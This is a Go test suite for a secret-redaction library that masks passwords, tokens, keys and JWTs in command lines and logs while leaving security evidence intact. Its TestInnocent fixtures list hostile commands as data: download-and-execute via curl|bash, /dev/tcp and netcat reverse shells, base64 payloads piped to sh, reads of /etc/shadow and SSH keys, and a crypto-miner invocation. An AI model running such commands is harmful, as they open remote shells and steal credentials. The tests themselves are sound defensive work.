package redact

import (
	"bufio"
	"encoding/base64"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
)

func newRedactor(t testing.TB) *Redactor {
	t.Helper()
	r, err := New()
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// TestRulesCompile holds what match relies on: every expression compiles.
func TestRulesCompile(t *testing.T) {
	t.Parallel()
	r := newRedactor(t)
	if len(r.leaks.rules) < 200 {
		t.Errorf("only %d rules", len(r.leaks.rules))
	}
	for _, rule := range r.leaks.rules {
		if _, err := rule.regex(); err != nil {
			t.Errorf("%s: %v", rule.id, err)
		}
		for _, get := range append(rule.allowMatch, rule.allowValue...) {
			if _, err := get(); err != nil {
				t.Errorf("%s: %v", rule.id, err)
			}
		}
	}
	for _, get := range r.leaks.allowed {
		if _, err := get(); err != nil {
			t.Error(err)
		}
	}
	keywords := 0
	for _, b := range r.leaks.buckets {
		keywords += len(b)
	}
	if keywords < 200 {
		t.Errorf("only %d keywords", keywords)
	}
}

const (
	hunter = "hunter2Correct"
	jwt    = "eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJzdWIiOiJjYW5hcnkiLCJhdWQiOiJ4In0.c2lnbmF0dXJlLWNhbmFyeQ"
)

// TestCanaries plants secrets and asks that nothing of them is left and that
// the rest is.
func TestCanaries(t *testing.T) {
	t.Parallel()
	pem := "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEAcanary\nq1w2e3\n-----END RSA PRIVATE KEY-----"
	tests := []struct{ name, in, secret, want string }{
		{"long flag", "app --password=" + hunter + " --port 80", hunter, "app --password=[REDACTED] --port 80"},
		{"long flag and space", "app --password " + hunter + " --port 80", hunter, "app --password [REDACTED] --port 80"},
		{"single dash", "tool -token " + hunter, hunter, "tool -token [REDACTED]"},
		{"quoted value", `app --api-key "` + hunter + ` two" x`, hunter + " two", `app --api-key "[REDACTED]" x`},
		{"mysql attached", "mysql -uroot -p" + hunter + " -h db", hunter, "mysql -uroot -p[REDACTED] -h db"},
		{"mysql path in sh", "sh -c '/usr/bin/mysqldump -p" + hunter + " all'", hunter, "sh -c '/usr/bin/mysqldump -p[REDACTED] all'"},
		{"sshpass", "sshpass -p " + hunter + " ssh root@10.0.0.1", hunter, "sshpass -p [REDACTED] ssh root@10.0.0.1"},
		{"steghide", "steghide extract -sf a.jpg -p " + hunter, hunter, "steghide extract -sf a.jpg -p [REDACTED]"},
		{"curl user", "curl -u admin:" + hunter + " https://example.com", hunter, "curl -u admin:[REDACTED] https://example.com"},
		{"curl user long", "curl --user 'admin:" + hunter + "' https://example.com", hunter, "curl --user 'admin:[REDACTED]' https://example.com"},
		{"redis", "redis-cli -h cache -a " + hunter + " ping", hunter, "redis-cli -h cache -a [REDACTED] ping"},
		{"docker login", "docker login -u me -p " + hunter + " reg", hunter, "docker login -u me -p [REDACTED] reg"},
		{"smbclient", "smbclient -U bob%" + hunter + " //host/share", hunter, "smbclient -U bob%[REDACTED] //host/share"},
		{"openssl pass", "openssl enc -d -pass pass:" + hunter + " -in x", hunter, "openssl enc -d -pass pass:[REDACTED] -in x"},
		{"sudo -S", "echo " + hunter + " | sudo -S id", hunter, "echo [REDACTED] | sudo -S id"},
		{"chpasswd", "echo 'root:" + hunter + "' | chpasswd", hunter, "echo [REDACTED] | chpasswd"},
		{"sql", "CREATE USER 'x' IDENTIFIED BY '" + hunter + "'", hunter, "CREATE USER 'x' IDENTIFIED BY '[REDACTED]'"},
		{"url userinfo", "git clone https://bob:" + hunter + "@example.com/r.git", hunter, "git clone https://bob:[REDACTED]@example.com/r.git"},
		{"url slash in password", "postgres://bob:p/" + hunter + "@db:5432/x", hunter, "postgres://bob:[REDACTED]@db:5432/x"},
		{"url at in password", "redis://:p@" + hunter + "@cache:6379", hunter, "redis://:[REDACTED]@cache:6379"},
		{"url token as user", "https://abcdefghij0123456789xyz@example.com/", "abcdefghij0123456789xyz", "https://[REDACTED]@example.com/"},
		{"go dsn", "app:" + hunter + "@tcp(db:3306)/x", hunter, "app:[REDACTED]@tcp(db:3306)/x"},
		{"query token", "GET https://x.example/a?id=1&token=" + hunter + "&b=2", hunter, "GET https://x.example/a?id=1&token=[REDACTED]&b=2"},
		{"query key", "GET /maps?key=" + hunter + " 200", hunter, "GET /maps?key=[REDACTED] 200"},
		{"signed url", "https://storage.googleapis.com/b/o?X-Goog-Expires=900&X-Goog-Signature=0a1b2c3d4e5f", "0a1b2c3d4e5f", "https://storage.googleapis.com/b/o?X-Goog-Expires=900&X-Goog-Signature=[REDACTED]"},
		{"percent-encoded", "q=password%3D" + hunter + "%26x%3D1", hunter, "q=password%3D[REDACTED]%26x%3D1"},
		{"bearer header", `curl -H "Authorization: Bearer ` + hunter + `" https://x.example`, hunter, `curl -H "Authorization: Bearer [REDACTED]" https://x.example`},
		{"basic header", "Authorization: Basic aGVsbG86d29ybGQ=", "aGVsbG86d29ybGQ=", "Authorization: Basic [REDACTED]"},
		{"raw authorization", "authorization: " + hunter, hunter, "authorization: [REDACTED]"},
		{"bearer alone", "sent Bearer abcdefghijklmnop1234 to x", "abcdefghijklmnop1234", "sent Bearer [REDACTED] to x"},
		{"cookie", "curl -H 'Cookie: sid=" + hunter + "; theme=dark' x", hunter, "curl -H 'Cookie: [REDACTED]' x"},
		{"api key header", "X-Api-Key: " + hunter, hunter, "X-Api-Key: [REDACTED]"},
		{"env", "DB_PASSWORD=" + hunter + " java -jar app.jar", hunter, "DB_PASSWORD=[REDACTED] java -jar app.jar"},
		{"export", "export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "wJalrXUtnFEMI", "export AWS_SECRET_ACCESS_KEY=[REDACTED]"},
		{"env quoted", `PGPASSWORD="` + hunter + ` x" psql`, hunter, `PGPASSWORD="[REDACTED]" psql`},
		{"env joined quotes", `PASSWORD=ab"` + hunter + `"cd ls`, hunter, "PASSWORD=[REDACTED] ls"},
		{"inside sh -c", "sh -c 'TOKEN=" + hunter + " ./run'", hunter, "sh -c 'TOKEN=[REDACTED] ./run'"},
		{"apostrophe before", "don't set password='" + hunter + "' here", hunter, "don't set password='[REDACTED]' here"},
		{"json", `{"user":"bob","password":"` + hunter + `","n":1}`, hunter, `{"user":"bob","password":"[REDACTED]","n":1}`},
		{"escaped json", `{\"clientSecret\": \"` + hunter + `\"}`, hunter, `{\"clientSecret\": \"[REDACTED]\"}`},
		{"yaml", "password: " + hunter, hunter, "password: [REDACTED]"},
		{"camel case", "dbPassword = " + hunter, hunter, "dbPassword = [REDACTED]"},
		{"xml", "<password>" + hunter + "</password>", hunter, "<password>[REDACTED]</password>"},
		{"connection string", "Server=db;User=sa;Password=" + hunter + ";Encrypt=1", hunter, "Server=db;User=sa;Password=[REDACTED];Encrypt=1"},
		{"pem", "key " + pem + " end", "MIIEpAIBAAKCAQEAcanary", "key [REDACTED] end"},
		{"pem cut", "key -----BEGIN PRIVATE KEY-----\nMIIEcanary", "MIIEcanary", "key [REDACTED]"},
		{"service account json", `{"type":"service_account","private_key":"-----BEGIN PRIVATE KEY-----\nMIIEcanary\n-----END PRIVATE KEY-----\n","client_email":"a@b"}`, "MIIEcanary", `{"type":"service_account","private_key":"[REDACTED]","client_email":"a@b"}`},
		{"jwt", "saw " + jwt + " once", jwt, "saw [REDACTED] once"},
		{"google access token", "ya29.a0AfH6SMBcanary-canary_x", "a0AfH6SMBcanary", "[REDACTED]"},
		{"google api key", "AIza" + "SyCanaryCanaryCanaryCanaryCanary123", "SyCanary", "[REDACTED]"},
		{"github", "ghp_" + "0123456789abcdefghijABCDEFGHIJ012345", "0123456789abcdefghij", "[REDACTED]"},
		{"aws key id", "AKIA" + "IOSFODNN7EXAMPLE", "IOSFODNN7", "[REDACTED]"},
		{"slack by gitleaks", "https://hooks.slack.com/services/T00000000/B00000000/abcdefABCDEF0123456789ab", "abcdefABCDEF0123456789ab", "[REDACTED]"},
		{"generic by gitleaks", "my_service.key: 8fK2pQ7xLm9Zr4Tv6Wn1", "8fK2pQ7xLm9Zr4Tv6Wn1", "my_service.key: [REDACTED]"},
		{"zero width in the name", "pass\u200bword=" + hunter, hunter, "password=[REDACTED]"},
		{"escape in the name", "pass\x1b[31mword=" + hunter, hunter, "password=[REDACTED]"},
		{"in base64", "echo " + wrap("DB_PASSWORD="+hunter) + " | base64 -d > .env", wrap("DB_PASSWORD=" + hunter), "echo [REDACTED] | base64 -d > .env"},
		{"in base64 of base64", "--data=" + wrap("x "+wrap("https://ci:"+hunter+"@git.example.com/")), wrap("https://ci:" + hunter + "@git.example.com/"), "--data=[REDACTED]"},
		{"in base64 in a file of secrets", "data:\n  url: " + wrap("postgres://app:"+hunter+"@10.0.0.4/db"), wrap("postgres://app:" + hunter + "@10.0.0.4/db"), "data:\n  url: [REDACTED]"},
		{"aws configure set", "aws configure set aws_secret_access_key " + hunter + " --profile x", hunter, "aws configure set aws_secret_access_key [REDACTED] --profile x"},
		{"npm config set", "npm config set //registry.example.com/:_authToken " + hunter, hunter, "npm config set //registry.example.com/:_authToken [REDACTED]"},
		{"snmp", "snmpwalk -v3 -A " + hunter + " -X " + hunter + " 10.0.0.1", hunter, "snmpwalk -v3 -A [REDACTED] -X [REDACTED] 10.0.0.1"},
		{"htpasswd", "htpasswd -bc /etc/nginx/.htpasswd admin " + hunter + " && nginx", hunter, "htpasswd -bc /etc/nginx/.htpasswd admin [REDACTED] && nginx"},
		{"htpasswd to its output", "/usr/bin/htpasswd -B -nb admin " + hunter + " > /run/users", hunter, "/usr/bin/htpasswd -B -nb admin [REDACTED] > /run/users"},
		{"mask before the secret", "password=[REDACTED]" + hunter, hunter, "password=[REDACTED]"},
	}
	r := newRedactor(t)
	for _, tc := range tests {
		got := r.Text(tc.in)
		if strings.Contains(got, tc.secret) {
			t.Errorf("%s: the secret survives: %q", tc.name, got)
		}
		if diff := cmp.Diff(tc.want, got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", tc.name, diff)
		}
		if again := r.Text(got); again != got {
			t.Errorf("%s: not idempotent: %q then %q", tc.name, got, again)
		}
		if line := r.Line("x "+tc.in+" y", 60); strings.Contains(line, tc.secret) {
			t.Errorf("%s: the secret survives in a cut line: %q", tc.name, line)
		}
	}
}

// TestInnocent holds that evidence survives unchanged.
func TestInnocent(t *testing.T) {
	t.Parallel()
	tests := []string{
		"",
		"Unexpected Child Shell",
		"sh -c 'curl -s http://198.51.100.7/a.sh | bash'",
		"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
		"nc -e /bin/sh 198.51.100.7 4444",
		"echo aWQ7IHVuYW1lIC1hCg== | base64 -d | sh",
		"echo " + wrap("curl -s http://198.51.100.7/a.sh | bash # of the staging host") + " | base64 -d | sh",
		"/usr/lib/jvm/java-21-openjdk-amd64/bin/java",
		"htpasswd -B /etc/nginx/.htpasswd admin operator",
		"gcloud config set project shop-prod",
		"git config set user.name bob",
		"curl -A Mozilla/5.0 -X POST http://198.51.100.7/a",
		"TOKEN=$(curl -s -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token)",
		"curl -H \"Authorization: Bearer $TOKEN\" https://storage.googleapis.com/",
		"cat /etc/passwd /etc/shadow ~/.ssh/id_rsa",
		"find / -name '*.key' -o -name credentials.json",
		"grep -ri password /app --include=*.env",
		"PASSWORD_FILE=/run/secrets/db_password",
		"GOOGLE_APPLICATION_CREDENTIALS=/secrets/key.json",
		"export PATH=/usr/bin:$PATH HOME=/root PWD=/app OLDPWD=/",
		"sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
		"us-docker.pkg.dev/p/r/app@sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
		"key sha256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 seen",
		"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
		"checkout-00042-abc",
		"run/shop-prod/europe-west1/service/checkout",
		"//run.googleapis.com/projects/shop-prod/locations/europe-west1/services/checkout",
		"projects/123/sources/456/locations/global/findings/0123456789abcdef0123456789abcdef",
		"principal deployer@shop-prod.iam.gserviceaccount.com",
		"https://console.cloud.google.com/logs/query;query=resource.type%3D%22cloud_run_revision%22?project=shop-prod",
		"gcloud run services update-traffic checkout --to-revisions=checkout-00041-xyz=100 --region=europe-west1 --project=shop-prod",
		"error: invalid token: unexpected end of input",
		"password: incorrect for user bob",
		"token expired at 2026-01-01T00:00:00Z",
		"max_tokens: 4096, temperature: 0.2",
		"TOKENIZERS_PARALLELISM=false",
		"GET /api/v1/items?id=12345&page=2 200 12ms",
		"gcloud secrets versions disable 3 --secret=db-password --project=shop-prod",
		"gcloud secrets versions list --secret db-password",
		"gcloud run services update checkout --update-secrets=DB_PASSWORD=db-password:4,API_KEY=api:1 --region=europe-west1",
		"java -jar app.jar --spring.profiles.active=prod",
		"node server.js --port 8080 --keyboard us",
		"docker run -u 1000:1000 -p 8080:80 app",
		"nc -l -p 4444",
		"ssh -i /root/.ssh/id_rsa user@203.0.113.9",
		"xmrig -o stratum+tcp://pool.example:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x",
		"trojan.mirai/gafgyt",
		"T1059.004 TA0002",
		"2001:db8::1",
		"héllo wörld 日本語",
		"line one\nline two\twith a tab",
		"authors=3 tokenize=1 bypass=1 monkey=banana",
		"-----BEGIN CERTIFICATE-----\nMIIBcert\n-----END CERTIFICATE-----",
		"uid=0(root) gid=0(root) groups=0(root)",
		"{\"severity\":\"ERROR\",\"message\":\"db down\",\"status\":500}",
	}
	r := newRedactor(t)
	for _, in := range tests {
		if diff := cmp.Diff(in, r.Text(in)); diff != "" {
			t.Errorf("changed (-want +got):\n%s", diff)
		}
	}
}

func TestArgs(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		argv []string
		want string
	}{
		{"none", nil, ""},
		{"plain", []string{"ls", "-la", "/tmp"}, "ls -la /tmp"},
		{"quoting", []string{"sh", "-c", "id; uname -a", ""}, "sh -c 'id; uname -a' ''"},
		{"a quote inside", []string{"sh", "-c", "echo 'x'"}, `sh -c 'echo '\''x'\'''`},
		{"across arguments", []string{"app", "--password", "two words's", "--port", "80"}, "app --password [REDACTED] --port 80"},
		{"assignment", []string{"app", "--token=" + hunter, "x"}, "app --token=[REDACTED] x"},
		{"mysql", []string{"/usr/bin/mysql", "-uroot", "-p" + hunter}, "/usr/bin/mysql -uroot -p[REDACTED]"},
		{"curl", []string{"curl", "-u", "bob:" + hunter, "https://x.example"}, "curl -u bob:[REDACTED] https://x.example"},
		{"header", []string{"curl", "-H", "Authorization: Bearer " + hunter}, "curl -H 'Authorization: Bearer [REDACTED]'"},
		{"script", []string{"bash", "-c", "PGPASSWORD=" + hunter + " psql -h db"}, "bash -c 'PGPASSWORD=[REDACTED] psql -h db'"},
		{"flag follows flag", []string{"app", "--password", "--verbose"}, "app --password --verbose"},
		{"hostile", []string{"x\x1b[2J\u202ey"}, "xy"},
	}
	r := newRedactor(t)
	for _, tc := range tests {
		if diff := cmp.Diff(tc.want, r.Args(tc.argv)); diff != "" {
			t.Errorf("%s (-want +got):\n%s", tc.name, diff)
		}
	}
}

func TestClean(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, in string
		max      int
		want     string
	}{
		{"plain", "hello", 0, "hello"},
		{"trims and folds", "  a \t b\r\n\r\nc ", 0, "a b c"},
		{"nul", "a\x00b", 0, "ab"},
		{"ansi colour", "\x1b[1;31mred\x1b[0m", 0, "red"},
		{"osc title", "\x1b]0;evil\x07ok", 0, "ok"},
		{"lone escape", "a\x1bzb", 0, "ab"},
		{"c1 csi", "a\u009b31mb", 0, "ab"},
		{"bidi", "a\u202eb\u2066c\u2069", 0, "abc"},
		{"zero width", "a\u200b\u200d\ufeffb", 0, "ab"},
		{"tags", "a\U000e0041b", 0, "ab"},
		{"line separator", "a\u2028b", 0, "a b"},
		{"invalid utf-8", "a\xff\xfeb", 0, "a\uFFFDb"},
		{"cut on a rune", "日本語テスト", 4, "日本語…"},
		{"not cut", "日本語", 3, "日本語"},
		{"max one", "abc", 1, "…"},
		{"only hostile", "\x1b[0m\x00\u202e", 10, ""},
	}
	for _, tc := range tests {
		if diff := cmp.Diff(tc.want, Clean(tc.in, tc.max)); diff != "" {
			t.Errorf("%s (-want +got):\n%s", tc.name, diff)
		}
	}
}

func TestRenderers(t *testing.T) {
	t.Parallel()
	tests := []struct{ name, got, want string }{
		{"markdown link", Markdown("[x](http://a.example)"), `\[x\](http&#58;//a.example)`},
		{"markdown html", Markdown("<img src=x>&"), "&lt;img src=x&gt;&amp;"},
		{"markdown mention", Markdown("@all"), "&#64;all"},
		{"markdown table", Markdown("a|b\nc"), `a\|b c`},
		{"code", Code("a`b``c"), "``` a`b``c ```"},
	}
	for _, tc := range tests {
		if diff := cmp.Diff(tc.want, tc.got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", tc.name, diff)
		}
	}
}

func TestLongText(t *testing.T) {
	t.Parallel()
	r := newRedactor(t)
	long := strings.Repeat("word ", MaxText) + "password=" + hunter
	if got := r.Text(long); len(got) > MaxText+8 || !strings.HasSuffix(got, "…") {
		t.Errorf("Text of %d bytes has %d bytes", len(long), len(got))
	}
	// A secret must not survive because the text was cut through its middle.
	for pad := range 80 {
		s := strings.Repeat("a ", 4096/2-20) + strings.Repeat("b", pad) + " password=" + hunter + " x"
		if got := r.Line(s, 10_000); strings.Contains(got, "hunter") {
			t.Fatalf("pad %d: %q", pad, got[len(got)-60:])
		}
	}
	if got := r.Block("a\nb\n", 100); got != "a\nb" {
		t.Errorf("Block = %q", got)
	}
}

func FuzzText(f *testing.F) {
	r := newRedactor(f)
	for _, s := range []string{
		"", "--password x", "a=b&token=", "-----BEGIN PRIVATE KEY-----", "x://a:b@c", "Authorization: ", "Cookie: \"",
		"password='", "pass\\\"word\":\\\"x", "%3D%3A", "key=[REDACTED]x", "\x1b]0;", "mysql -p' -p\"", "bearer bearer", "eyJaaaaaaaaaa.bbbbbbbbbbb...",
		"<password>", "token:token:token=token", "echo x | sudo -S", "$(password=x)", "[\"--password\", \"a b\"]",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := r.Text(s)
		if again := r.Text(got); again != got {
			t.Errorf("not idempotent: %q → %q → %q", s, got, again)
		}
		for _, c := range got {
			if c != '\n' && c != '\t' && unicode.IsControl(c) {
				t.Errorf("control character %U in %q", c, got)
			}
		}
		line := r.Line(s, 50)
		if utf8.RuneCountInString(line) > 50 || strings.ContainsAny(line, "\n\r\t") || !utf8.ValidString(line) {
			t.Errorf("Line(%q) = %q", s, line)
		}
		if again := Clean(line, 50); again != line {
			t.Errorf("Clean is not idempotent: %q → %q", line, again)
		}
		_ = r.Args(strings.Split(s, " "))
	})
}

// TestRealCommands holds that real command lines keep what an analyst reads.
func TestRealCommands(t *testing.T) {
	t.Parallel()
	dir := os.Getenv("REALDATA")
	if dir == "" {
		t.Skip("REALDATA is unset")
	}
	file, err := os.Open(filepath.Join(dir, "commands", "commands.ndjson"))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = file.Close() }()
	r := newRedactor(t)
	total, changed := 0, 0
	for lines := bufio.NewScanner(file); lines.Scan(); {
		var row struct{ Args []string }
		if err := json.Unmarshal(lines.Bytes(), &row); err != nil {
			t.Fatal(err)
		}
		total++
		for _, arg := range row.Args {
			if got := r.Text(arg); strings.Contains(got, Mask) {
				changed++
				t.Logf("masked: %q → %q", arg, got)
			}
		}
	}
	if changed*20 > total {
		t.Errorf("%d of %d real command lines are masked", changed, total)
	}
}

func BenchmarkText(b *testing.B) {
	r := newRedactor(b)
	line := `2026-11-22T10:00:00Z GET /api/v1/items?id=12345&user=alice HTTP/1.1 200 accessed by token holder 10.0.0.1 key partition ok, mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)`
	r.Text(line)
	b.ReportAllocs()
	start := time.Now()
	for b.Loop() {
		r.Text(line)
	}
	b.ReportMetric(float64(time.Since(start).Microseconds())/float64(b.N), "µs/text")
}

// wrap is base64 as "base64 -w0" prints it.
func wrap(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
